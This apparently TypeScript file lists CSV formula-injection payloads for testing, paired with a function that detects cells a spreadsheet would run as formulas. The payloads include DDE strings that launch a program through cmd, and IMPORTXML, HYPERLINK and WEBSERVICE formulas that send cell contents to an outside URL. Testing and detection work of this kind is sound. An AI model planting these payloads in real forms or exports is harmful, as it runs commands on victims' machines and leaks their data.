/** What attackers put into sign-up forms so that a spreadsheet runs it (OWASP, "CSV Injection", and variants of it). */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://example.com?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://example.com?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://example.com")',
  '=1+1";=1+1',
  '"=1+1"',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=1+1\t',
  '-',
  '+',
  '@amy',
  '+886912345678',
]

/** What a spreadsheet may take for a formula: its first character, or the first one after blanks and invisible ones. */
export function startsFormula(cell: string): boolean {
  const first = cell.replace(/^[\s\u200b\u2060\ufeff]+/u, '')
  return /^[\t\r\n]/u.test(cell) || /^[=+\-@＝＋－＠﹢﹣﹦﹫]/u.test(first)
}
